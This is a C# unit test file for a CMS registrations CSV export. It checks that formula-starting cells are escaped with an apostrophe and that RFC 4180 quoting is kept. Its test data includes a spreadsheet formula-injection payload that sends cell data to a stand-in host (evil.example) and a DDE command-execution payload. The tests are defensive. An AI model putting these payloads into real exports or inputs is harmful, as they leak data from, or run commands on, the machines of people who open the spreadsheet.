using System.Text;
using IcssiCms.Core.Registrations;
using IcssiCms.Core.Registrations.BackOffice;

namespace IcssiCms.UnitTests.Core.Registrations;

/// <summary>The registrations CSV the back office downloads, read back as a spreadsheet would (RFC 4180).</summary>
public sealed class RegistrationCsvTests
{
    public static TheoryData<string, string> Names => new()
    {
        { "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" },
        { "+1 555 0100", "'+1 555 0100" },
        { "-2+3", "'-2+3" },
        { "@SUM(1)", "'@SUM(1)" },
        { "\tTabbed", "'\tTabbed" },
        { "\rReturned", "'\rReturned" },
        { "Said \"hello\", then left", "Said \"hello\", then left" },
        { "Two\nlines", "Two\nlines" },
        { "زينب العراقي", "زينب العراقي" },
        { "Layla Hassan", "Layla Hassan" },
    };

    [Theory]
    [MemberData(nameof(Names))]
    public async Task A_Name_Reads_Back_As_Text_A_Formula_Escaped_And_Quotes_Kept(string name, string shown)
    {
        var rows = await WriteAndReadAsync(("Social Event", Registration(name, "layla@example.org")));

        Assert.Equal(RegistrationCsv.Columns, rows[0]);
        var row = Assert.Single(rows.Skip(1));
        Assert.Equal(RegistrationCsv.Columns.Length, row.Length);
        Assert.Equal(shown, row[Array.IndexOf(RegistrationCsv.Columns, "name")]);
        Assert.Equal("layla@example.org", row[Array.IndexOf(RegistrationCsv.Columns, "email")]);
    }

    [Fact]
    public async Task Every_Cell_Is_Escaped_Not_Only_The_Name_And_The_File_Starts_With_A_Byte_Order_Mark()
    {
        var bytes = await RegistrationCsv.WriteAsync([("=cmd|' /C calc'!A0", Registration("-Anyone", "someone@example.org"))], CancellationToken.None);

        Assert.Equal(Encoding.UTF8.Preamble.ToArray(), bytes[..3]);
        var rows = Read(bytes);
        Assert.Equal("'=cmd|' /C calc'!A0", rows[1][Array.IndexOf(RegistrationCsv.Columns, "event")]);
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), cell));
    }

    private static RegistrationDto Registration(string name, string email) => new()
    {
        Key = Guid.NewGuid(),
        RecordKey = Guid.NewGuid(),
        FormKey = Guid.NewGuid(),
        EventKey = Guid.NewGuid(),
        Email = email,
        Name = name,
        Culture = "en-US",
        Status = (int)RegistrationStatus.Pending,
        Position = 1,
        CreatedUtc = new DateTime(2014, 9, 1, 8, 0, 0, DateTimeKind.Utc),
        UpdatedUtc = new DateTime(2014, 9, 1, 8, 0, 0, DateTimeKind.Utc),
    };

    private static async Task<List<string[]>> WriteAndReadAsync(params (string EventName, RegistrationDto Registration)[] rows) =>
        Read(await RegistrationCsv.WriteAsync(rows, CancellationToken.None));

    /// <summary>RFC 4180: fields separated by commas, quoted when they hold commas, quotes or line breaks.</summary>
    private static List<string[]> Read(byte[] bytes)
    {
        var text = new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes, 3, bytes.Length - 3);
        var rows = new List<string[]>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c is '\r' or '\n')
            {
                if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
                {
                    i++;
                }

                row.Add(field.ToString());
                field.Clear();
                rows.Add([.. row]);
                row.Clear();
            }
            else
            {
                field.Append(c);
            }
        }

        if (field.Length > 0 || row.Count > 0)
        {
            row.Add(field.ToString());
            rows.Add([.. row]);
        }

        return rows;
    }
}
